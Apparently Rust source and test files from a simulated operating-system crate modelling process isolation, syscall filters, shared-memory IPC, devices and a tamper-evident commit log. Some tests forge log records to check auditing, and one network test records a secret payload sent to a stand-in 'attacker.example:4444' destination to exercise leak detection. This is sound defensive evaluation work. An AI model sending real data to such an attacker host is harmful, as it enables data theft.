    fn forged_filter_swap_after_seal_is_flagged() {
        let log = recorded_run();
        let mut records = log.records().to_vec();
        // Forge: a successful filter replacement on the sealed agent,
        // spliced in after the seal but before the reap.
        let seal_idx = records
            .iter()
            .position(|r| matches!(r.op, CommitOp::SetNoNewPrivs { .. }))
            .unwrap();
        let agent = match records[seal_idx].op {
            CommitOp::SetNoNewPrivs { pid } => pid,
            _ => unreachable!(),
        };
        records.insert(
            seal_idx + 1,
            CommitRecord {
                index: 0,
                op: CommitOp::InstallFilter {
                    pid: agent,
                    filter: SyscallFilter::allowing(SyscallNo::ALL.iter().copied()),
                },
                outcome: CommitOutcome::Ok(0),
                digest: 0,
            },
        );
        let forged = CommitLog::from_parts(log.genesis().clone(), records);
        let viols = audit(&forged);
        assert!(viols.iter().any(|v| v.rule == "filter-immutability"));
        // The forgery also fails replay: the real kernel refuses the
        // install, so the outcome diverges.
        let (_, report) = replay(&forged);
        assert!(!report.is_clean());
    }

    #[test]
    fn forged_unbalanced_revoke_is_flagged() {
        let log = recorded_run();
        let mut records = log.records().to_vec();
        // Forge a second successful revoke of the same grant.
        let idx = records
            .iter()
            .position(|r| matches!(r.op, CommitOp::ShmRevoke { .. }))
            .unwrap();
        let mut dup = records[idx].clone();
        dup.outcome = CommitOutcome::Ok(1);
        records.insert(idx + 1, dup);
        let forged = CommitLog::from_parts(log.genesis().clone(), records);
        assert!(audit(&forged).iter().any(|v| v.rule == "grant-balance"));
    }

    #[test]
    fn forged_protect_outcome_breaks_page_accounting() {
        let log = recorded_run();
        let mut records = log.records().to_vec();
        let idx = records
            .iter()
            .position(|r| matches!(r.op, CommitOp::Protect { .. }))
            .unwrap();
        records[idx].outcome = CommitOutcome::Ok(records[idx].outcome.raw() + 5);
        let forged = CommitLog::from_parts(log.genesis().clone(), records);
        assert!(audit(&forged).iter().any(|v| v.rule == "page-accounting"));
    }

    #[test]
    fn forensic_chain_walks_fault_back_to_provenance() {
        let mut k = Kernel::new();
        k.enable_commit_log();
        let host = k.spawn("host");
        let agent = k.spawn("agent");
        let bystander = k.spawn("bystander");
        k.charge_compute(bystander, 10); // unrelated noise
        let id = k.shm_create(host, vec![1; 64]).unwrap();
        k.shm_grant(id, agent, Perms::R).unwrap();
        k.shm_map(agent, id).unwrap();
        k.shm_revoke(id, agent).unwrap();
        // The stale access faults — last record is the DeliverFault.
        assert!(k.shm_read(agent, id).is_err());
        let log = k.take_commit_log().unwrap();
        let last = log.len() - 1;
        assert!(matches!(
            log.records()[last as usize].op,
            CommitOp::DeliverFault {
                kind: FaultKind::Protection,
                ..
            }
        ));
        let chain = forensic_chain(&log, last);
        assert_eq!(chain[0], last);
        // The chain reaches the revoke, grant, creation, and both
        // spawns, but not the bystander's unrelated charge.
        let ops: Vec<&str> = chain
            .iter()
            .map(|&i| log.records()[i as usize].op.name())
            .collect();
        assert!(ops.contains(&"shm_revoke"));
        assert!(ops.contains(&"shm_grant"));
        assert!(ops.contains(&"shm_create"));
        assert!(ops.contains(&"spawn"));
        let noise = log
            .records()
            .iter()
            .position(|r| matches!(r.op, CommitOp::ChargeCompute { .. }))
            .unwrap() as u64;
        assert!(!chain.contains(&noise));
    }

    #[test]
    fn replay_of_empty_log_is_trivially_clean() {
        let log = CommitLog::new(CostModel::default());
        let (k, report) = replay(&log);
        assert!(report.is_clean());
        assert_eq!(report.steps, 0);
        assert_eq!(k.process_count(), 0);
        assert!(audit(&log).is_empty());
    }
}
