//! Simulated processes.
//!
//! A [`SimProcess`] owns an address space, a file-descriptor table, and an
//! optional syscall filter — exactly the per-process state FreePart's
//! isolation story manipulates. Processes do not run on their own; the
//! harness drives them by executing code "in their context" through the
//! kernel, which attributes every memory access and syscall to the
//! current pid.

use crate::device::DeviceKind;
use crate::error::Fault;
use crate::filter::SyscallFilter;
use crate::mem::AddressSpace;
use crate::syscall::Fd;
use std::collections::BTreeMap;
use std::fmt;

/// Process identifier.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Pid(pub u32);

impl fmt::Display for Pid {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        self.0.fmt(f)
    }
}

/// Lifecycle state of a process.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ProcessState {
    /// Alive and schedulable.
    Running,
    /// Killed by a fault (segfault, SIGSYS, abort).
    Crashed(Fault),
    /// Exited voluntarily with a status code.
    Exited(i32),
}

impl ProcessState {
    /// True for [`ProcessState::Running`].
    pub fn is_running(&self) -> bool {
        matches!(self, ProcessState::Running)
    }
}

/// What a file descriptor refers to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FdTarget {
    /// An open file with a cursor.
    File {
        /// Path in the simulated fs.
        path: String,
        /// Read/write cursor.
        offset: u64,
    },
    /// A device endpoint.
    Device(DeviceKind),
    /// A connected socket.
    Socket {
        /// Peer destination (empty until `connect`).
        dest: String,
    },
}

/// A simulated process.
#[derive(Debug)]
pub struct SimProcess {
    /// Kernel-assigned identifier.
    pub pid: Pid,
    /// Human-readable role name ("host", "agent:loading", ...).
    pub name: String,
    /// The process's private memory.
    pub aspace: AddressSpace,
    /// Lifecycle state.
    pub state: ProcessState,
    /// Installed seccomp-style filter, if any.
    pub filter: Option<SyscallFilter>,
    /// Set by `prctl(PR_SET_NO_NEW_PRIVS)`: filter becomes immutable.
    pub no_new_privs: bool,
    pub(crate) fd_table: BTreeMap<Fd, FdTarget>,
    pub(crate) next_fd: u32,
    /// Virtual ns of compute attributed to this process.
    pub cpu_ns: u64,
}

impl SimProcess {
    /// A fresh running process with stdin/stdout/stderr reserved.
    pub fn new(pid: Pid, name: &str) -> SimProcess {
        SimProcess {
            pid,
            name: name.to_owned(),
            aspace: AddressSpace::new(),
            state: ProcessState::Running,
            filter: None,
            no_new_privs: false,
            fd_table: BTreeMap::new(),
            next_fd: 3, // 0..2 reserved, like Unix
            cpu_ns: 0,
        }
    }

    /// Allocates the next free descriptor pointing at `target`.
    pub(crate) fn install_fd(&mut self, target: FdTarget) -> Fd {
        let fd = Fd(self.next_fd);
        self.next_fd += 1;
        self.fd_table.insert(fd, target);
        fd
    }

    /// Looks up a descriptor.
    pub fn fd_target(&self, fd: Fd) -> Option<&FdTarget> {
        self.fd_table.get(&fd)
    }

    /// Descriptors currently open.
    pub fn open_fds(&self) -> impl Iterator<Item = Fd> + '_ {
        self.fd_table.keys().copied()
    }

    /// Descriptors pointing at a given device kind — used when building
    /// fd-argument filter rules for designated devices.
    pub fn fds_of_device(&self, kind: DeviceKind) -> Vec<Fd> {
        self.fd_table
            .iter()
            .filter_map(|(fd, t)| match t {
                FdTarget::Device(k) if *k == kind => Some(*fd),
                _ => None,
            })
            .collect()
    }

    /// True while the process can execute.
    pub fn is_running(&self) -> bool {
        self.state.is_running()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::FaultKind;

    #[test]
    fn fds_start_after_stdio() {
        let mut p = SimProcess::new(Pid(1), "t");
        let fd = p.install_fd(FdTarget::Device(DeviceKind::Camera));
        assert_eq!(fd, Fd(3));
        let fd2 = p.install_fd(FdTarget::Socket {
            dest: String::new(),
        });
        assert_eq!(fd2, Fd(4));
    }

    #[test]
    fn fds_of_device_filters_by_kind() {
        let mut p = SimProcess::new(Pid(1), "t");
        let cam = p.install_fd(FdTarget::Device(DeviceKind::Camera));
        p.install_fd(FdTarget::Device(DeviceKind::GuiSocket));
        assert_eq!(p.fds_of_device(DeviceKind::Camera), vec![cam]);
    }

    #[test]
    fn state_predicates() {
        let mut p = SimProcess::new(Pid(9), "x");
        assert!(p.is_running());
        p.state = ProcessState::Crashed(Fault {
            pid: Pid(9),
            kind: FaultKind::Abort,
            addr: None,
        });
        assert!(!p.is_running());
        p.state = ProcessState::Exited(0);
        assert!(!p.is_running());
    }
}
