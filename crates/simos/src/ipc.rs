//! Shared-memory ring-buffer IPC.
//!
//! FreePart's host↔agent and agent↔agent traffic runs over shared-memory
//! ring buffers synchronized with futexes (paper §4.3, footnote 8). This
//! module provides the ring itself; the kernel wraps it with permission
//! checks, cost accounting, and futex wake charging.
//!
//! The simulation is cooperative, so "blocking" receive is expressed as
//! `try_recv` returning `None` — the driving harness never actually needs
//! to park because request/response pairs are executed synchronously.

use crate::commit::{fold_bytes, mix, FINGERPRINT_SEED};
use crate::process::Pid;
use bytes::Bytes;
use std::collections::VecDeque;
use std::fmt;

/// Identifier of a kernel-registered channel.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct ChannelId(pub u32);

impl fmt::Display for ChannelId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "chan{}", self.0)
    }
}

/// Which side of a channel a process holds.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ChannelEnd {
    /// The end registered first (conventionally the host / requester).
    A,
    /// The end registered second (conventionally the agent / responder).
    B,
}

/// A single framed message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Frame {
    /// Sender pid, for bookkeeping.
    pub from: Pid,
    /// Payload bytes.
    pub payload: Bytes,
    /// Sender's virtual time when the frame was enqueued. Under
    /// per-process timelines the receiver merges this on delivery
    /// (happens-before: `recv = max(recv, send_ns + latency)`); under
    /// the global clock it is carried but ignored.
    pub send_ns: u64,
}

/// A bidirectional bounded ring: two one-way queues with a byte budget,
/// mirroring a pair of shm ring buffers.
#[derive(Debug)]
pub struct RingChannel {
    /// Endpoint A's pid.
    pub a: Pid,
    /// Endpoint B's pid.
    pub b: Pid,
    capacity_bytes: usize,
    a_to_b: VecDeque<Frame>,
    b_to_a: VecDeque<Frame>,
    a_to_b_bytes: usize,
    b_to_a_bytes: usize,
    /// Incremental fingerprint over the channel's traffic history
    /// (sends, receives, rebinds), feeding the kernel state digest.
    fp: u64,
}

/// Error cases for ring operations.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RingError {
    /// The queue's byte budget is exhausted.
    Full,
    /// The pid is neither endpoint.
    NotEndpoint,
}

impl RingChannel {
    /// A channel between `a` and `b` with `capacity_bytes` per direction.
    pub fn new(a: Pid, b: Pid, capacity_bytes: usize) -> RingChannel {
        RingChannel {
            a,
            b,
            capacity_bytes,
            a_to_b: VecDeque::new(),
            b_to_a: VecDeque::new(),
            a_to_b_bytes: 0,
            b_to_a_bytes: 0,
            fp: FINGERPRINT_SEED,
        }
    }

    /// The traffic-history fingerprint (see the field docs on `fp`).
    pub fn fingerprint(&self) -> u64 {
        self.fp
    }

    /// Which end `pid` holds, if any.
    pub fn end_of(&self, pid: Pid) -> Option<ChannelEnd> {
        if pid == self.a {
            Some(ChannelEnd::A)
        } else if pid == self.b {
            Some(ChannelEnd::B)
        } else {
            None
        }
    }

    /// Re-binds endpoint B to a new pid (agent restart keeps the channel).
    pub fn rebind_b(&mut self, new_b: Pid) {
        self.b = new_b;
        self.fp = mix(mix(self.fp, 3), u64::from(new_b.0));
    }

    /// Enqueues a message from `from` toward the opposite end, stamped
    /// with the sender's virtual time `send_ns`.
    pub fn send(&mut self, from: Pid, payload: Bytes, send_ns: u64) -> Result<(), RingError> {
        let end = self.end_of(from).ok_or(RingError::NotEndpoint)?;
        let (queue, used) = match end {
            ChannelEnd::A => (&mut self.a_to_b, &mut self.a_to_b_bytes),
            ChannelEnd::B => (&mut self.b_to_a, &mut self.b_to_a_bytes),
        };
        if *used + payload.len() > self.capacity_bytes {
            return Err(RingError::Full);
        }
        *used += payload.len();
        self.fp = fold_bytes(
            mix(mix(mix(self.fp, 1), u64::from(from.0)), send_ns),
            &payload,
        );
        queue.push_back(Frame {
            from,
            payload,
            send_ns,
        });
        Ok(())
    }

    /// Dequeues the next message addressed to `to`, if any.
    pub fn try_recv(&mut self, to: Pid) -> Result<Option<Frame>, RingError> {
        let end = self.end_of(to).ok_or(RingError::NotEndpoint)?;
        let (queue, used) = match end {
            ChannelEnd::A => (&mut self.b_to_a, &mut self.b_to_a_bytes),
            ChannelEnd::B => (&mut self.a_to_b, &mut self.a_to_b_bytes),
        };
        match queue.pop_front() {
            Some(frame) => {
                *used -= frame.payload.len();
                self.fp = mix(mix(self.fp, 2), frame.payload.len() as u64);
                Ok(Some(frame))
            }
            None => Ok(None),
        }
    }

    /// Messages waiting for `to`.
    pub fn pending_for(&self, to: Pid) -> usize {
        match self.end_of(to) {
            Some(ChannelEnd::A) => self.b_to_a.len(),
            Some(ChannelEnd::B) => self.a_to_b.len(),
            None => 0,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn chan() -> RingChannel {
        RingChannel::new(Pid(1), Pid(2), 1024)
    }

    #[test]
    fn send_recv_roundtrip_both_directions() {
        let mut c = chan();
        c.send(Pid(1), Bytes::from_static(b"req"), 0).unwrap();
        let f = c.try_recv(Pid(2)).unwrap().unwrap();
        assert_eq!(&f.payload[..], b"req");
        assert_eq!(f.from, Pid(1));
        c.send(Pid(2), Bytes::from_static(b"resp"), 0).unwrap();
        assert_eq!(&c.try_recv(Pid(1)).unwrap().unwrap().payload[..], b"resp");
    }

    #[test]
    fn capacity_is_per_direction() {
        let mut c = RingChannel::new(Pid(1), Pid(2), 4);
        c.send(Pid(1), Bytes::from_static(b"abcd"), 0).unwrap();
        assert_eq!(
            c.send(Pid(1), Bytes::from_static(b"x"), 0),
            Err(RingError::Full)
        );
        // Opposite direction unaffected.
        c.send(Pid(2), Bytes::from_static(b"yz"), 0).unwrap();
        // Draining frees budget.
        c.try_recv(Pid(2)).unwrap().unwrap();
        c.send(Pid(1), Bytes::from_static(b"x"), 0).unwrap();
    }

    #[test]
    fn non_endpoint_is_rejected() {
        let mut c = chan();
        assert_eq!(
            c.send(Pid(9), Bytes::from_static(b"spoof"), 0),
            Err(RingError::NotEndpoint)
        );
        assert_eq!(c.try_recv(Pid(9)), Err(RingError::NotEndpoint));
    }

    #[test]
    fn recv_on_empty_returns_none() {
        let mut c = chan();
        assert_eq!(c.try_recv(Pid(1)).unwrap(), None);
    }

    #[test]
    fn rebind_b_preserves_pending_traffic() {
        let mut c = chan();
        c.send(Pid(1), Bytes::from_static(b"m"), 0).unwrap();
        c.rebind_b(Pid(7));
        assert_eq!(c.pending_for(Pid(7)), 1);
        assert!(c.try_recv(Pid(7)).unwrap().is_some());
        assert_eq!(c.end_of(Pid(2)), None);
    }

    #[test]
    fn frames_carry_the_send_timestamp() {
        let mut c = chan();
        c.send(Pid(1), Bytes::from_static(b"t"), 4_200).unwrap();
        assert_eq!(c.try_recv(Pid(2)).unwrap().unwrap().send_ns, 4_200);
    }

    #[test]
    fn fifo_order_is_preserved() {
        let mut c = chan();
        for i in 0..5u8 {
            c.send(Pid(1), Bytes::copy_from_slice(&[i]), 0).unwrap();
        }
        for i in 0..5u8 {
            assert_eq!(c.try_recv(Pid(2)).unwrap().unwrap().payload[0], i);
        }
    }
}
