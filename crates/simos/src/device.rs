//! Simulated devices: camera, GUI display subsystem, and network.
//!
//! These are the `DEV` and `GUI` storage classes of the paper's data-flow
//! model (Fig. 8/9). The camera feeds data-loading APIs
//! (`VideoCapture::read` uses `ioctl`/`select`), the display backs
//! visualizing APIs (`imshow` talks to a GUI socket), and the network log
//! is how the evaluation's exfiltration analysis observes whether an
//! attack managed to `send()` stolen bytes off-box.

use crate::commit::{fold_bytes, hash_str, mix, FINGERPRINT_SEED};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::fmt;

/// Kinds of device a file descriptor can point at.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum DeviceKind {
    /// A frame-producing camera (`/dev/video0`).
    Camera,
    /// The GUI subsystem socket (X11/Wayland stand-in).
    GuiSocket,
    /// An outbound network socket.
    NetSocket,
    /// An eventfd used for agent wakeups.
    Event,
}

/// Identifier of a GUI window created by a visualizing API.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct WindowId(pub u32);

impl fmt::Display for WindowId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "win{}", self.0)
    }
}

/// Deterministic camera: produces seeded pseudo-random frames.
#[derive(Debug)]
pub struct Camera {
    rng: StdRng,
    frame_len: usize,
    frames_served: u64,
}

impl Camera {
    /// A camera producing `frame_len`-byte frames from `seed`.
    pub fn new(seed: u64, frame_len: usize) -> Camera {
        Camera {
            rng: StdRng::seed_from_u64(seed),
            frame_len,
            frames_served: 0,
        }
    }

    /// Grabs the next frame.
    pub fn capture(&mut self) -> Vec<u8> {
        self.frames_served += 1;
        (0..self.frame_len).map(|_| self.rng.gen()).collect()
    }

    /// Number of frames handed out so far.
    pub fn frames_served(&self) -> u64 {
        self.frames_served
    }

    /// Digest of the camera's observable state. The generator stream is
    /// fully determined by the seed and the frames served, so the pair
    /// `(frame_len, frames_served)` pins it.
    pub fn fingerprint(&self) -> u64 {
        mix(
            mix(FINGERPRINT_SEED, self.frame_len as u64),
            self.frames_served,
        )
    }
}

/// One GUI window's retained state.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Window {
    /// Title passed at creation.
    pub title: String,
    /// Last blitted image bytes (length only matters for costing).
    pub last_frame_len: usize,
    /// Number of times content was presented.
    pub presents: u64,
}

/// The GUI display subsystem: windows, blits, and input key queue.
///
/// Visualizing APIs `connect()` to this once (the paper's
/// "connect only during first execution" observation) and then draw.
#[derive(Debug, Default)]
pub struct Display {
    windows: Vec<Option<Window>>,
    key_queue: Vec<u8>,
    /// Total bytes blitted to the screen — visible output volume.
    pub blitted_bytes: u64,
    connected: bool,
}

impl Display {
    /// A fresh display with no windows.
    pub fn new() -> Display {
        Display::default()
    }

    /// Marks the GUI socket connected (first `connect`).
    pub fn connect(&mut self) {
        self.connected = true;
    }

    /// True once a visualizing API has connected.
    pub fn is_connected(&self) -> bool {
        self.connected
    }

    /// Finds a live window by title.
    pub fn find_window(&self, title: &str) -> Option<WindowId> {
        self.windows
            .iter()
            .enumerate()
            .find(|(_, w)| w.as_ref().is_some_and(|w| w.title == title))
            .map(|(i, _)| WindowId(i as u32))
    }

    /// Titles of all live windows, in creation order.
    pub fn window_titles(&self) -> Vec<String> {
        self.windows
            .iter()
            .filter_map(|w| w.as_ref().map(|w| w.title.clone()))
            .collect()
    }

    /// Creates a window and returns its id.
    pub fn create_window(&mut self, title: &str) -> WindowId {
        let id = WindowId(self.windows.len() as u32);
        self.windows.push(Some(Window {
            title: title.to_owned(),
            last_frame_len: 0,
            presents: 0,
        }));
        id
    }

    /// Presents `frame_len` bytes to `win`.
    pub fn present(&mut self, win: WindowId, frame_len: usize) -> bool {
        match self
            .windows
            .get_mut(win.0 as usize)
            .and_then(|w| w.as_mut())
        {
            Some(w) => {
                w.last_frame_len = frame_len;
                w.presents += 1;
                self.blitted_bytes += frame_len as u64;
                true
            }
            None => false,
        }
    }

    /// Destroys one window.
    pub fn destroy_window(&mut self, win: WindowId) -> bool {
        match self.windows.get_mut(win.0 as usize) {
            Some(slot @ Some(_)) => {
                *slot = None;
                true
            }
            _ => false,
        }
    }

    /// Destroys every window (`destroyAllWindows`).
    pub fn destroy_all(&mut self) {
        for w in &mut self.windows {
            *w = None;
        }
    }

    /// Live window count.
    pub fn window_count(&self) -> usize {
        self.windows.iter().filter(|w| w.is_some()).count()
    }

    /// Looks up a live window.
    pub fn window(&self, win: WindowId) -> Option<&Window> {
        self.windows.get(win.0 as usize).and_then(|w| w.as_ref())
    }

    /// Queues a synthetic key press (workload input).
    pub fn push_key(&mut self, key: u8) {
        self.key_queue.push(key);
    }

    /// Polls one key press, if any (`pollKey`).
    pub fn poll_key(&mut self) -> Option<u8> {
        if self.key_queue.is_empty() {
            None
        } else {
            Some(self.key_queue.remove(0))
        }
    }

    /// Digest of the whole display state: windows (live and destroyed
    /// slots), pending keys, blit volume, and connection flag. Window
    /// counts are tiny, so this walks rather than tracking incrementally.
    pub fn fingerprint(&self) -> u64 {
        let mut h = mix(
            mix(FINGERPRINT_SEED, self.blitted_bytes),
            u64::from(self.connected),
        );
        h = mix(h, self.windows.len() as u64);
        for w in &self.windows {
            h = match w {
                None => mix(h, 0),
                Some(w) => mix(
                    mix(mix(mix(h, 1), hash_str(&w.title)), w.last_frame_len as u64),
                    w.presents,
                ),
            };
        }
        fold_bytes(h, &self.key_queue)
    }
}

/// One observed outbound transmission.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NetSend {
    /// Sending process (kernel-assigned raw pid value).
    pub pid: u32,
    /// Destination string from `connect`/`sendto`.
    pub dest: String,
    /// Payload bytes.
    pub bytes: Vec<u8>,
}

/// Record of all network egress — the exfiltration oracle.
///
/// The §5.3 data-exfiltration analysis asks one question: did any stolen
/// bytes reach an attacker-controlled destination? This log answers it.
#[derive(Debug, Default)]
pub struct NetworkLog {
    sends: Vec<NetSend>,
    fp: u64,
}

impl NetworkLog {
    /// An empty log.
    pub fn new() -> NetworkLog {
        NetworkLog::default()
    }

    /// Records an outbound transmission.
    pub fn record(&mut self, pid: u32, dest: &str, bytes: &[u8]) {
        self.fp = fold_bytes(
            mix(mix(mix(self.fp, 1), u64::from(pid)), hash_str(dest)),
            bytes,
        );
        self.sends.push(NetSend {
            pid,
            dest: dest.to_owned(),
            bytes: bytes.to_vec(),
        });
    }

    /// Incremental fingerprint over the egress history (including
    /// clears), feeding the kernel state digest.
    pub fn fingerprint(&self) -> u64 {
        self.fp
    }

    /// Every transmission so far.
    pub fn sends(&self) -> &[NetSend] {
        &self.sends
    }

    /// Total bytes sent to destinations containing `needle`.
    pub fn bytes_to(&self, needle: &str) -> u64 {
        self.sends
            .iter()
            .filter(|s| s.dest.contains(needle))
            .map(|s| s.bytes.len() as u64)
            .sum()
    }

    /// True when a payload containing `marker` left the box.
    pub fn leaked(&self, marker: &[u8]) -> bool {
        self.sends
            .iter()
            .any(|s| s.bytes.windows(marker.len().max(1)).any(|w| w == marker))
    }

    /// Clears the log (between experiments).
    pub fn clear(&mut self) {
        self.fp = mix(self.fp, 2);
        self.sends.clear();
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn camera_is_deterministic_per_seed() {
        let mut a = Camera::new(42, 16);
        let mut b = Camera::new(42, 16);
        assert_eq!(a.capture(), b.capture());
        assert_eq!(a.frames_served(), 1);
        let mut c = Camera::new(43, 16);
        assert_ne!(a.capture(), c.capture());
    }

    #[test]
    fn display_window_lifecycle() {
        let mut d = Display::new();
        let w = d.create_window("preview");
        assert_eq!(d.window_count(), 1);
        assert!(d.present(w, 100));
        assert_eq!(d.window(w).unwrap().presents, 1);
        assert_eq!(d.blitted_bytes, 100);
        assert!(d.destroy_window(w));
        assert!(!d.present(w, 1));
        assert_eq!(d.window_count(), 0);
    }

    #[test]
    fn display_destroy_all_and_keys() {
        let mut d = Display::new();
        d.create_window("a");
        d.create_window("b");
        d.destroy_all();
        assert_eq!(d.window_count(), 0);
        d.push_key(b's');
        d.push_key(b'q');
        assert_eq!(d.poll_key(), Some(b's'));
        assert_eq!(d.poll_key(), Some(b'q'));
        assert_eq!(d.poll_key(), None);
    }

    #[test]
    fn network_log_detects_leaks() {
        let mut n = NetworkLog::new();
        n.record(3, "attacker.example:4444", b"SECRET-TEMPLATE");
        assert!(n.leaked(b"SECRET"));
        assert!(!n.leaked(b"missing"));
        assert_eq!(n.bytes_to("attacker"), 15);
        n.clear();
        assert!(n.sends().is_empty());
    }
}
