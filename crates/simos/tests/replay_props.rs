//! Property tests of the flight recorder: arbitrary recorded operation
//! sequences replay digest-identical and audit clean, and tampered logs
//! are flagged.

use freepart_simos::core::{outcome_of_step, step};
use freepart_simos::replay::{audit, forensic_chain, replay, DivergenceKind};
use freepart_simos::{
    CommitLog, CommitOp, CommitOutcome, Effects, Kernel, KernelState, Perms, Syscall,
    SyscallFilter, SyscallNo,
};
use proptest::prelude::*;

/// One step of a randomized workload over a small cast of processes,
/// exercising every subsystem the commit log covers.
#[derive(Debug, Clone)]
enum Step {
    Spawn,
    Alloc(u8, u16),
    Write(u8, u8, Vec<u8>),
    Protect(u8, u8, u8),
    ShmCreate(u8, u16),
    ShmGrant(u8, u8, u8),
    ShmMap(u8, u8),
    ShmRevoke(u8, u8),
    ShmWrite(u8, u8, Vec<u8>),
    Channel(u8, u8),
    Send(u8, u8, Vec<u8>),
    Recv(u8, u8),
    Filter(u8, bool),
    Seal(u8),
    Sys(u8, u8),
    ForceExit(u8),
    Reap(u8),
    FsPut(u8, Vec<u8>),
    Gui(u8),
    Compute(u8, u16),
    Reset,
}

fn arb_step() -> impl Strategy<Value = Step> {
    let bytes = || proptest::collection::vec(any::<u8>(), 0..32);
    prop_oneof![
        Just(Step::Spawn),
        (any::<u8>(), 1u16..2048).prop_map(|(p, n)| Step::Alloc(p, n)),
        (any::<u8>(), any::<u8>(), bytes()).prop_map(|(p, r, d)| Step::Write(p, r, d)),
        (any::<u8>(), any::<u8>(), 0u8..5).prop_map(|(p, r, m)| Step::Protect(p, r, m)),
        (any::<u8>(), 1u16..2048).prop_map(|(p, n)| Step::ShmCreate(p, n)),
        (any::<u8>(), any::<u8>(), 0u8..5).prop_map(|(s, p, m)| Step::ShmGrant(s, p, m)),
        (any::<u8>(), any::<u8>()).prop_map(|(s, p)| Step::ShmMap(s, p)),
        (any::<u8>(), any::<u8>()).prop_map(|(s, p)| Step::ShmRevoke(s, p)),
        (any::<u8>(), any::<u8>(), bytes()).prop_map(|(s, p, d)| Step::ShmWrite(s, p, d)),
        (any::<u8>(), any::<u8>()).prop_map(|(a, b)| Step::Channel(a, b)),
        (any::<u8>(), any::<u8>(), bytes()).prop_map(|(c, p, d)| Step::Send(c, p, d)),
        (any::<u8>(), any::<u8>()).prop_map(|(c, p)| Step::Recv(c, p)),
        (any::<u8>(), any::<bool>()).prop_map(|(p, wide)| Step::Filter(p, wide)),
        any::<u8>().prop_map(Step::Seal),
        (any::<u8>(), any::<u8>()).prop_map(|(p, s)| Step::Sys(p, s)),
        any::<u8>().prop_map(Step::ForceExit),
        any::<u8>().prop_map(Step::Reap),
        (any::<u8>(), bytes()).prop_map(|(p, d)| Step::FsPut(p, d)),
        any::<u8>().prop_map(Step::Gui),
        (any::<u8>(), 1u16..500).prop_map(|(p, u)| Step::Compute(p, u)),
        Just(Step::Reset),
    ]
}

fn pick<T: Copy>(items: &[T], i: u8) -> Option<T> {
    if items.is_empty() {
        None
    } else {
        Some(items[i as usize % items.len()])
    }
}

/// Drives a recording kernel through `steps`, ignoring per-step errors
/// (faults, dead processes, bad handles are all legitimate transitions —
/// the recorder must capture them too). Returns the detached log.
fn record(steps: &[Step]) -> CommitLog {
    let mut k = Kernel::new();
    k.enable_commit_log();
    let mut pids = vec![k.spawn("p0")];
    let mut regions = Vec::new();
    let mut segs = Vec::new();
    let mut chans = Vec::new();
    let perms_of = |m: u8| match m {
        0 => Perms::NONE,
        1 => Perms::R,
        2 => Perms::RW,
        3 => Perms::RX,
        _ => Perms::RWX,
    };
    for s in steps {
        match s {
            Step::Spawn => {
                if pids.len() < 8 {
                    pids.push(k.spawn("p"));
                }
            }
            Step::Alloc(p, n) => {
                if let Some(pid) = pick(&pids, *p) {
                    if let Ok(a) = k.alloc(pid, u64::from(*n), Perms::RW) {
                        regions.push((pid, a, u64::from(*n)));
                    }
                }
            }
            Step::Write(p, r, d) => {
                if let (Some(pid), Some(&(_, a, len))) = (
                    pick(&pids, *p),
                    regions.get(*r as usize % regions.len().max(1)),
                ) {
                    let n = d.len().min(len as usize);
                    let _ = k.mem_write(pid, a, &d[..n]);
                }
            }
            Step::Protect(p, r, m) => {
                if let (Some(pid), Some(&(_, a, len))) = (
                    pick(&pids, *p),
                    regions.get(*r as usize % regions.len().max(1)),
                ) {
                    let _ = k.protect(pid, a, len, perms_of(*m));
                }
            }
            Step::ShmCreate(p, n) => {
                if let Some(pid) = pick(&pids, *p) {
                    if let Ok(id) = k.shm_create(pid, vec![7; *n as usize]) {
                        segs.push(id);
                    }
                }
            }
            Step::ShmGrant(s, p, m) => {
                if let (Some(id), Some(pid)) = (pick(&segs, *s), pick(&pids, *p)) {
                    let _ = k.shm_grant(id, pid, perms_of(*m));
                }
            }
            Step::ShmMap(s, p) => {
                if let (Some(id), Some(pid)) = (pick(&segs, *s), pick(&pids, *p)) {
                    let _ = k.shm_map(pid, id);
                }
            }
            Step::ShmRevoke(s, p) => {
                if let (Some(id), Some(pid)) = (pick(&segs, *s), pick(&pids, *p)) {
                    let _ = k.shm_revoke(id, pid);
                }
            }
            Step::ShmWrite(s, p, d) => {
                if let (Some(id), Some(pid)) = (pick(&segs, *s), pick(&pids, *p)) {
                    let _ = k.shm_write(pid, id, d);
                }
            }
            Step::Channel(a, b) => {
                if let (Some(pa), Some(pb)) = (pick(&pids, *a), pick(&pids, *b)) {
                    if let Ok(c) = k.create_channel(pa, pb, 1 << 12) {
                        chans.push(c);
                    }
                }
            }
            Step::Send(c, p, d) => {
                if let (Some(ch), Some(pid)) = (pick(&chans, *c), pick(&pids, *p)) {
                    let _ = k.ipc_send(pid, ch, d);
                }
            }
            Step::Recv(c, p) => {
                if let (Some(ch), Some(pid)) = (pick(&chans, *c), pick(&pids, *p)) {
                    let _ = k.ipc_recv(pid, ch);
                }
            }
            Step::Filter(p, wide) => {
                if let Some(pid) = pick(&pids, *p) {
                    let f = if *wide {
                        SyscallFilter::allowing(SyscallNo::ALL.iter().copied())
                    } else {
                        SyscallFilter::allowing([SyscallNo::Getpid, SyscallNo::Prctl])
                    };
                    let _ = k.install_filter(pid, f);
                }
            }
            Step::Seal(p) => {
                if let Some(pid) = pick(&pids, *p) {
                    let _ = k.set_no_new_privs(pid);
                }
            }
            Step::Sys(p, s) => {
                if let Some(pid) = pick(&pids, *p) {
                    let call = match s % 6 {
